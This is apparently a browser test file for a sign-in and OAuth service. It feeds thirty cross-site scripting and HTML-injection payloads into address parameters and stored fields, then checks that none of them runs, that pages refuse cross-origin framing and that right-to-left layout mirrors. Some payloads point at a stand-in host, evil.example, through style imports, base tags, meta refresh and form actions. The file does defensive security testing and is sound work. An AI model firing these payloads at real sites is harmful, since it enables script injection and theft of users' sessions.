// Texts that a user, a provider or a link may bring, on every page that may show one.
import { complaints, control, given, open, run, service, signIn, verified, want } from './lib.mjs'
import { framed } from './framed.mjs'

// Thirty, of 64 characters at most, as a name may have. Each sets pwned where it runs, or
// brings an element that no page has.
const texts = [
  '<img src=x onerror=pwned=1>', '<script>pwned=1</script>', '</script><script>pwned=1</script>', '--><script>pwned=1</script>', '</title><script>pwned=1</script>',
  '</textarea><xss-x>', '"><xss-x onmouseover=pwned=1>', "'><xss-x>", '"autofocus onfocus="pwned=1', "' onclick='pwned=1",
  'javascript:pwned=1', 'JaVaScRiPt:pwned=1//', 'data:text/html,<script>pwned=1</script>', '<a href="javascript:pwned=1">click</a>', '<svg/onload=pwned=1>',
  '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>', '<iframe srcdoc="<script>parent.pwned=1</script>">', '<object data="javascript:pwned=1">', '<embed src="javascript:pwned=1">', '<math><xss-x href="javascript:pwned=1">x',
  '<style>@import"//evil.example/x";</style>', '<link rel=stylesheet href=//evil.example/x>', '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<form action=//evil.example><input name=x>',
  '<video><source onerror=pwned=1></video>', '<details open ontoggle=pwned=1>', '{{constructor.constructor("pwned=1")()}}', '${pwned=1}`+pwned=1+`', '\u200d<xss-x>&#60;xss-x&#62;',
]

const foreign = 'xss-x, iframe[srcdoc], object, embed, base, meta[http-equiv], video, details[ontoggle], math, animate, img[src="x"], form[action*="evil"], [onerror], [onload], [onclick], [onfocus], [onmouseover], [ontoggle], [onbegin], a[href^="javascript:" i], a[href^="data:" i]'

// harmless goes to a page in a tab, and wants that nothing of the texts came alive.
async function harmless(page, path) {
  await page.goto('about:blank') // or another part after # is no new page
  await page.goto(service + path)
  await page.locator('h1').first().waitFor()
  const found = await page.evaluate((foreign) => new Promise((done) => setTimeout(() => done({
    pwned: 'pwned' in window, elements: [...document.querySelectorAll(foreign)].map((e) => e.outerHTML.slice(0, 120)), text: document.body.innerText,
  }), 50)), foreign)
  want(`${path}: what ran`, found.pwned, false)
  want(`${path}: elements that no page has`, found.elements, [])
  want(`${path}: complaints`, complaints(), [])
  return texts.filter((text) => found.text.includes(text)).length
}

await run(async () => {
  if (texts.length !== 30) throw new Error(`${texts.length} texts`)
  const { id, tokens } = await control('write', { texts })
  const admin = await signIn('+919811110000', { admin: true })
  const asking = `response_type=code&client_id=${given.client}&redirect_uri=http://127.0.0.1/cb&code_challenge=${'a'.repeat(43)}&code_challenge_method=S256`

  // What a link brings: each text in each part.
  const out = await open('/')
  for (const text of texts) {
    const it = encodeURIComponent(text)
    await harmless(out, `/?login_hint=${it}&returnTo=${it}&error=${it}&error_description=${it}&state=${it}&ui_locales=${it}#${it}`)
  }
  verified('the sign-in page, with thirty texts in each part of its address')
  for (const text of texts.slice(0, 5)) await harmless(out, `/oauth/authorize?${asking}&state=${encodeURIComponent(text)}&login_hint=${encodeURIComponent(text)}`)

  // What is stored: all of it on each page. The brand is hostile on all.
  const user = await open('/account', { tokens })
  const boss = await open('/admin/ui', { tokens: admin })
  for (const [page, ...paths] of [
    [out, '/', '/dev/inbox', '/docs'], [user, '/account', '/account#devices', '/account#security', '/account#activity'],
    [boss, '/admin/ui', '/admin/ui#users', `/admin/ui#user/${id}`, '/admin/ui#trail', '/admin/ui#now'],
  ]) {
    for (const path of paths) {
      if ((await fetch(service + path, { headers: { accept: 'text/html' } })).headers.get('content-type')?.includes('html') !== true) continue
      await harmless(page, path)
      const shown = () => page.evaluate((texts) => texts.filter((text) => document.body.innerText.includes(text)).length, texts)
      verified(`${path} is harmless, and shows ${await shown()} of the texts`)
    }
    await page.context().close()
  }

  // Nobody frames them.
  for (const path of ['/', '/account', '/admin/ui', '/dev/inbox', '/docs', `/oauth/authorize?${asking}`]) {
    want(`${path} in a frame`, await framed(given.stranger, path), false)
  }
  complaints()
  verified('no page is shown in a frame of another origin')

  // Right to left: the page is the mirror image of itself. No language of this kind is
  // shipped, so the test says that it is one.
  const place = (page) => page.evaluate(() => {
    const width = document.documentElement.clientWidth
    return Object.fromEntries(['.country', '.inputs > input', '.tabs button', 'h1'].map((name) => {
      const { left, right } = document.querySelector(name).getBoundingClientRect()
      return [name, [Math.round(left), Math.round(width - right)]]
    }))
  })
  const page = await open('/')
  await page.locator('.country').waitFor()
  const usual = await place(page)
  await page.route(`${service}/`, async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: (await answer.text()).replace('dir="ltr"', 'dir="rtl"') })
  })
  await page.reload()
  await page.locator('.country').waitFor()
  const turned = await place(page)
  for (const [name, [left, right]] of Object.entries(usual)) want(`${name} is mirrored`, turned[name].map((at, i) => Math.abs(at - [right, left][i]) <= 2), [true, true])
  if (Math.abs(usual['.country'][0] - turned['.country'][0]) < 50) throw new Error('nothing has moved')
  await page.context().close()
  complaints()
  verified('from right to left the page is its mirror image')
})
